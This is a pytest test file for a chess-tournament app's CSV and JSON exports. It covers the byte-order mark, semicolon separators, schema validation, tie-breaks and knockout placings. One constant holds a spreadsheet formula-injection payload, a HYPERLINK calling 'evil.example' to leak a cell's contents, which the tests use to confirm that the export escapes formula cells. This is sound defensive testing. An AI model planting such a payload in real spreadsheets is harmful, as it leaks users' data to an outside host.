"""Issue 18's CSV and JSON: spreadsheets open the CSV as the arbiter expects (BOM, a semicolon
option, formulas escaped), the JSON follows its versioned schema and carries the tie-breaks, and
a knockout exports its bouts and placings (issue 15)."""

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest
from django.core.management import call_command
from django.urls import reverse

from arbiter.core.models import Tournament
from arbiter.core.systems import System
from arbiter.platform.spreadsheets import escape_cell
from pairing.knockout import services as knockout_service

pytestmark = pytest.mark.django_db

SCHEMA = json.loads(
    (Path(__file__).resolve().parents[3] / "docs" / "schema" / "tournament-v1.json").read_text()
)
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def get(client, name, tournament, query=""):
    return client.get(reverse(name, kwargs={"tournament_id": tournament.pk}) + query)


def test_the_csv_starts_with_a_byte_order_mark_so_that_spreadsheets_read_utf_8(client, played_open):
    entry = played_open.entries.first()
    entry.name = "Øvrebø, Åse"
    entry.save()
    content = get(client, "export_players", played_open).content
    assert content.startswith("\ufeff".encode())
    assert "Øvrebø, Åse" in content.decode("utf-8-sig")


def test_the_csv_can_be_separated_by_semicolons(client, played_open):
    text = get(client, "export_results", played_open, "?sep=semicolon").content.decode("utf-8-sig")
    header = text.split("\r\n")[0]
    assert header.startswith("round;board;white_number")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 10


def test_a_name_that_is_a_formula_is_written_as_text(client, played_open):
    entry = played_open.entries.first()
    entry.name = EVIL
    entry.club = "@SUM(1+1)"
    entry.save()
    rows = list(
        csv.DictReader(
            io.StringIO(get(client, "export_players", played_open).content.decode("utf-8-sig"))
        )
    )
    mine = next(r for r in rows if r["name"].endswith('"Click")'))
    assert mine["name"] == "'" + EVIL and mine["club"] == "'@SUM(1+1)"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_a_spreadsheet_reads_as_a_formula_is_escaped(start):
    assert escape_cell(start + "1+1") == "'" + start + "1+1"
    assert escape_cell("Carlsen, " + start) == "Carlsen, " + start
    assert escape_cell(12) == 12


def test_the_json_validates_against_its_schema_and_carries_the_tie_breaks(client, played_open):
    document = json.loads(get(client, "export_json", played_open).content)
    jsonschema.validate(document, SCHEMA)
    assert document["version"] == 1
    assert document["tournament"]["chief_arbiter"] == "Anna Larsen"
    assert [t["code"] for t in document["tournament"]["tiebreaks"]] == ["BH-C1", "BH", "SB", "DE"]
    assert (
        document["tournament"]["tiebreak_rules"] == played_open.tiebreak_rules in ("2023", "2026")
    )
    first = document["players"][0]
    assert isinstance(first["points"], int | float) and set(first["tiebreaks"]) == {
        "BH-C1",
        "BH",
        "SB",
        "DE",
    }
    assert all(isinstance(p["tiebreaks"]["BH"], int | float) for p in document["players"])
    game = document["rounds"][0]["games"][0]
    assert isinstance(game["white_points"], int | float)


@pytest.mark.slow
def test_every_demo_tournament_exports_json_its_schema_accepts(client):
    call_command("load_demo")
    # one tournament per system, and the competition day's categories
    assert Tournament.objects.filter(category=None).count() == len(System.values)
    for tournament in Tournament.objects.all():
        document = json.loads(get(client, "export_json", tournament).content)
        jsonschema.validate(document, SCHEMA)


def knockout(client):
    call_command("load_demo")
    return Tournament.objects.get(system="knockout", category=None)


@pytest.mark.slow
def test_a_knockout_exports_its_bouts_as_its_results(client):
    tournament = knockout(client)
    fought = tournament.bracket.bouts.count()
    assert fought
    text = get(client, "export_results", tournament).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.split("\r\n")[0].startswith("match,round,stage,a_number")
    assert len([r for r in rows if r["fought"] == "True"]) == fought
    document = json.loads(get(client, "export_json", tournament).content)
    assert len([b for b in document["bouts"] if b["fought"]]) == fought
    assert document["rounds"] == []


@pytest.mark.slow
def test_a_knockout_ranks_by_placings_not_points(client):
    tournament = knockout(client)
    while ready := knockout_service.sheet(tournament).state.ready():
        for ms in ready:
            knockout_service.record_bout(None, tournament, ms.match.id, int(ms.a))
    rows = list(
        csv.DictReader(
            io.StringIO(get(client, "export_players", tournament).content.decode("utf-8-sig"))
        )
    )
    assert len(rows) == tournament.entries.count()
    assert {r["points"] for r in rows} == {""}
    ranks = [int(r["rank"]) for r in rows if r["rank"]]
    assert ranks[:4] == [1, 2, 3, 3] and ranks == sorted(ranks)
    document = json.loads(get(client, "export_json", tournament).content)
    assert all(p["points"] is None for p in document["players"])
